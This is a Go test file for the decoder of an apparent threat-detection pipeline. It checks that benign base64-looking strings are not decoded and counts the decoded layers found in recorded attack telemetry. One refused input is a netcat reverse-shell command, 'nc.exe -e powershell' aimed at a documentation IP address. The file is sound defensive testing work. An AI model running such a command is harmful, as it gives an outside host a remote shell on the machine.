package unpack

import (
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/huntd/huntd/pipeline/internal/recorded"
)

// What looks like base64 and is none.
func TestRefused(t *testing.T) {
	for _, in := range []string{
		`C:\Windows\System32\WindowsPowerShell\v1.0\Modules\PSDesiredStateConfiguration\PSDesiredStateConfiguration`,
		"/usr/share/applications/org.gnome.Settings/usr/lib/x86_64-linux-gnu/gstreamer1.0",
		"/opt/SplunkForwarder/etc/apps/TaWindowsInputs/default/Inputs1234",
		"{6b29fc40-ca47-1067-b31d-00dd010662da}",
		"6B29FC40CA471067B31D00DD010662DA",
		"9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
		"1234567890123456789012345678901234567890",
		"S-1-5-21-3623811015-3361044348-30300820-1013",
		"GetProcAddressForCallerWithSecurityContext",
		"InternalSystemServiceConfigurationManagerFactoryBean",
		"SeAssignPrimaryTokenPrivilege SeIncreaseWorkingSetPrivilege SeImpersonatePrivilege",
		"Microsoft-Windows-PowerShell/Operational",
		"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
		strings.Repeat("A", 400), strings.Repeat("/", 400), strings.Repeat("=", 400), strings.Repeat("-_", 400),
		"[Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes($command))",
		"base64_decode(GetParameterValuesFromRequest)",
		"xn--80ak6aa92e.com d111111abcdef8.cloudfront.net ec2-198-51-100-7.compute-1.amazonaws.com",
		"Set-ItemProperty -Path HKCU:Software -ErrorAction SilentlyContinue",
		"nc.exe -e powershell 198.51.100.7", "cscript /e:vbscript a.txt", "filebeat -e -modules=system",
		b64([]byte("a text with one digit too many."))[:41] + "  ",
		"@(" + strings.Repeat("65, 66, 67, ", 30) + "104)", "40,50,60,32,64,72,101,108,108,111", "192.168.100.101, 104.101.108.108",
		"-join ((65..90) + (97..122) | Get-Random -Count 5 | % {[char]$_})", "[char]65", "Chr(13)&Chr(10)", "[byte[]](1,2,3,4,5,6,7,8)",
		`"C:\Program Files\" + "Common Files"`, "'a' + $b + 'c'", `"a","b","c"`, `-join ("a", "b", $c)`, `msgbox "one " & "two"`,
		`'it''s' + ' fine'`, `"name: {0} of {1}" -f "a","b"`, `"Hello " + "world"`, "$x.Replace('a','b')", `f("month") + '/index'`, `"\ud83d\ude80 Loading" + "."`, `x.Split('abc','def') -join ''`,
		`{"name":"\u0417\u0430\u043f\u0443\u0441\u043a"}`, `"\u002e\u3002\uff0e\uff61"`, `\xc9\xaa\xce\xb8\xc9\x99`, `('one','two','three') -join ', '`, `["one","two"].join(", ")`,
		"0x4a6b5c3d2e7f4041 0x3c4d5e6f70214263 0x1a2b3c4d5e", "x = 0x20,0x21,0x22,0x23,0x24,0x25,0x26,0x27,0x28", "hexid=4a6b5c3d2e7f", `{"a":"b","c":"d"}`,
		"LogonId 0x3e7 0x7ffd8a9b0000 0xC0000234 0x00000000deadbeef", "4d5a", "7468697320697320",
		"SHA1=DA39A3EE5E6B4B0D3255BFEF95601890AFD80709,MD5=D41D8CD98F00B204E9800998ECF8427E",
		"20251125093000123456789012345678901234567890", "6666666666666666666666666666", "303132333435363738393031323334353637",
		`\x16\x03\x01\x02\x00\x01\xfc`, `C:\x86\x64\u1234`, `"GET /\x84\xb4,\x85\xafn\xe3Y\xbbbhl\xffHTTP"`, "v1.104.101.108.108.111",
		"x^2+y^2 " + b64([]byte{0x78, 0x9c, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15}),
	} {
		if got := rows(New(Limits{}).Unpack(in)); got != nil {
			t.Errorf("%.200s\nunpacked to %+v", in, got)
		}
	}
}

// TestFalsePositives unpacks every field of every recording and counts the
// different outermost layers of each. All of them were read one by one and are
// real; a recording that is not listed must give none.
func TestFalsePositives(t *testing.T) {
	for set, want := range map[string]map[string]int{
		"demo": {
			"01-initial-access-vbs-encoded-powershell": 8,
			"02-credential-theft-and-beacon":           1,
			"03-lateral-movement-psexec":               9,
			"09-web-access-background":                 2,
			"10-encoded-powershell-in-the-wild":        17,
		},
		"dev": {
			"ad-gootloader":        1,
			"ad-runonce":           2,
			"ca-reg-dump-sam":      1,
			"ca-rubeus-asktgt-ptt": 3,
			"cc0-evtx-Persistence-T1543.003-Create-or-Modify-System-Process-Windows-Service-ID4697-MSF-payload-deployed-via-service": 1,
			"cc0-evtx-TA0002-Execution-T1059.001-PowerShell-ID4688-Encoded-PowerShell-MSF-payload-via-process-execution":             1,
			"cc0-evtx-TA0005-Defense-Evasion-T1027-Obfuscated-Files-or-Information-4624-4674-4688-CrackMap-Exec-SMB-mimikatz":        1,
			"cc0-evtx-TA0005-Defense-Evasion-T1027-Obfuscated-Files-or-Information-ID4103-4104-CrackMapExec-payload-execution":       3,
			"de-dllinjection-beacon":       3,
			"de-netntlm-downgrade-beacon":  1,
			"de-regsvr32-sct":              8,
			"di-net-localgroup":            1,
			"exchange-admin-audit":         1,
			"lm-empire-psremoting":         9,
			"lm-empire-wmi":                11,
			"log4shell-linux-auditd":       1,
			"log4shell-linux-sysmon":       1,
			"log4shell-windows-security":   1,
			"log4shell-windows-sysmon":     1,
			"pscmd-corpus":                 321,
			"revoke-obfuscation-demo":      1,
			"sigma-regression":             1,
			"web-apache-access":            2,
			"windows-processes-on-host":    6,
			"winlogbeat-nested-enable-rdp": 2,
		},
	} {
		t.Run(set, func(t *testing.T) {
			u, got := New(Limits{}), make(map[string]int)
			for _, path := range recorded.Files(t, set) {
				name := strings.TrimSuffix(filepath.Base(path), ".ndjson.gz")
				seen := make(map[string]bool)
				for _, fields := range recorded.Events(t, path) {
					for _, values := range fields {
						for _, v := range values {
							for _, l := range u.Unpack(v) {
								if l.Depth == 1 && !seen[string(l.Data)] {
									seen[string(l.Data)] = true
									got[name]++
								}
							}
						}
					}
				}
			}
			if diff := cmp.Diff(want, got); diff != "" {
				t.Errorf("outermost layers by recording (-want +got)\n%s", diff)
			}
		})
	}
}
